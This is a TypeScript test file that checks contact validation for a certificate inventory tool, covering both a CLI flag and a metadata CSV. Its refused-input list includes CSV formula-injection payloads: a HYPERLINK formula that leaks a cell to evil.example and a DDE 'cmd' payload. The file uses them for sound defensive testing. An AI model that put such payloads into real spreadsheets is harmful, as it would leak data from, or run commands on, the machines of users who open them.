import { describe, expect, it } from 'vitest';
import {
  METADATA_COLUMNS,
  parseMetadataRow,
  type MetadataColumn,
} from '../../../../src/core/domain/inventory/metadata-row';
import { InvalidPersonError, parsePerson } from '../../../../src/core/domain/inventory/person';

const FP = 'a'.repeat(64);
const columns: MetadataColumn[] = [...METADATA_COLUMNS];
const row = (cells: Partial<Record<MetadataColumn, string>>) => columns.map((column) => cells[column] ?? '');

// Cells a metadata CSV used to take although `--contact` refused them (issue 14), and their siblings.
const REFUSED: readonly [string, RegExp][] = [
  ['=HYPERLINK("https://evil.example/?"&A1,"alice@example.com")', /starts with "=", which a spreadsheet would run/],
  ['=HYPERLINK("mailto:alice@example.com")', /starts with "="/],
  ['+cmd|" /C calc"!A0 alice@example.com', /starts with "\+"/],
  ['-2+3 <alice@example.com>', /starts with "-"/],
  ['@SUM(1+1) alice@example.com', /starts with "@"/],
  ['"alice"@example.com', /names nobody certflow can reach/],
  ['alice(at)example.com', /names nobody certflow can reach/],
  ['Alice\u001b[31m <alice@example.com>', /holds a control character/],
  ['alice@example.com\u2028bob@example.com', /holds a control character/],
  ['Alice Doe', /names nobody certflow can reach/],
  ['teams:U024BE7LH', /names nobody certflow can reach/],
];

const ACCEPTED: readonly [string, readonly string[]][] = [
  ['alice@example.com', ['alice@example.com']],
  ['Alice@Example.COM', ['alice@example.com']],
  ['Alice Doe <alice@example.com>', ['alice@example.com']],
  ['U024BE7LH', ['slack:U024BE7LH']],
  ['slack:U024BE7LH', ['slack:U024BE7LH']],
  [
    'Bob <bob@example.com> slack:W0123ABC jira:557058:f58131cb',
    ['bob@example.com', 'slack:W0123ABC', 'jira:557058:f58131cb'],
  ],
  ["o'brien+certs@mail.example.co.uk", ["o'brien+certs@mail.example.co.uk"]],
];

describe('one validation of people for --contact and the metadata CSV (issue 14)', () => {
  it.each(REFUSED)('R-INV-4: both refuse %j, saying why and what to write', (text, why) => {
    expect(() => parsePerson(text)).toThrow(InvalidPersonError);
    expect(() => parsePerson(text)).toThrow(why);
    for (const column of ['contacts', 'approvers'] as const) {
      const parsed = parseMetadataRow(columns, row({ fingerprint: FP, [column]: `carol@example.com; ${text}` }), 12);
      expect(parsed).toEqual({ line: 12, message: expect.stringMatching(why) as string });
      expect(parsed).toMatchObject({
        message: expect.stringMatching(new RegExp(`^${column}: .*e-mail address.*correct the cell`, 's')) as string,
      });
    }
  });

  it.each(ACCEPTED)('R-OWN-1: both accept %j; the CSV keeps its identities', (text, identities) => {
    expect(() => parsePerson(text)).not.toThrow();
    expect(parseMetadataRow(columns, row({ fingerprint: FP, contacts: text, approvers: text }), 3)).toMatchObject({
      patch: { contacts: identities, approvers: identities },
    });
  });
});
